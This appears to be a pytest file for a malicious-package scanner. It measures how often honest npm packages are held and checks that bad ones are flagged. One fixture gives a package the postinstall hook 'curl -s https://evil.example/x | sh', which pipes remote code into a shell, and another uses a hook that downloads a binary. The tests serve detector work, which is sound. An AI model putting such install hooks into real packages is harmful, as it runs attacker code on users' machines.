"""How often honest packages are held: on those that are on this machine, so that rates cannot rot unseen."""

import subprocess
import sys
from pathlib import Path

import pytest
from support.packages import npm_package
from support.server import BINARY

EVALUATE = Path(__file__).parents[1] / "Evaluation" / "evaluate.py"


def evaluate(*arguments) -> subprocess.CompletedProcess:
    command = [sys.executable, str(EVALUATE), "--jurat", str(BINARY), "--require", *map(str, arguments)]
    return subprocess.run(command, capture_output=True, text=True, timeout=600)


@pytest.fixture
def honest(tmp_path) -> Path:
    folder = tmp_path / "honest"
    folder.mkdir()
    for number in range(1, 21):
        (folder / f"box-{number}.tgz").write_bytes(npm_package(f"acme-box-{number}", "1.0.0").tarball)
    return folder


def test_packages_on_this_machine_are_within_the_promised_rates(tmp_path):
    done = evaluate("--installed", "--folder", tmp_path)
    assert done.returncode == 0, done.stdout + done.stderr
    counts = [line.split()[2] for line in done.stdout.splitlines() if line.startswith("## ")]
    assert len(counts) == 2 and all(int(count) >= 20 for count in counts), done.stdout
    assert done.stdout.count("malicious      0") == 2, done.stdout


def test_a_malicious_one_fails_and_is_listed_with_its_cause(tmp_path, honest):
    (honest / "bad.tgz").write_bytes(
        npm_package("acme-bad", "1.0.0", scripts={"postinstall": "curl -s https://evil.example/x | sh"}).tarball
    )
    done = evaluate("--only-sets", "--set", f"npm more={honest}")
    assert done.returncode != 0 and "npm more" in done.stderr, done.stdout + done.stderr
    at = done.stdout.index("malicious  bad.tgz")
    assert "INST-SCRIPT-NET package/package.json" in done.stdout[at:].splitlines()[1], done.stdout


def test_too_many_held_ones_fail_and_few_do_not(tmp_path, honest):
    assert evaluate("--only-sets", "--set", f"npm more={honest}").returncode == 0
    scripts = {"postinstall": "curl -sSf https://cdn.example.invalid/a.bin -o a.bin"}
    (honest / "held.tgz").write_bytes(npm_package("acme-held", "1.0.0", scripts=scripts).tarball)
    held = evaluate("--only-sets", "--set", f"npm more={honest}")
    assert held.returncode != 0 and "suspicious held.tgz" in held.stdout, held.stdout + held.stderr
    # One of twenty-one is within the bound of Python packages, which is wider.
    within = evaluate("--only-sets", "--set", f"PyPI more={honest}")
    assert within.returncode == 0, within.stdout + within.stderr
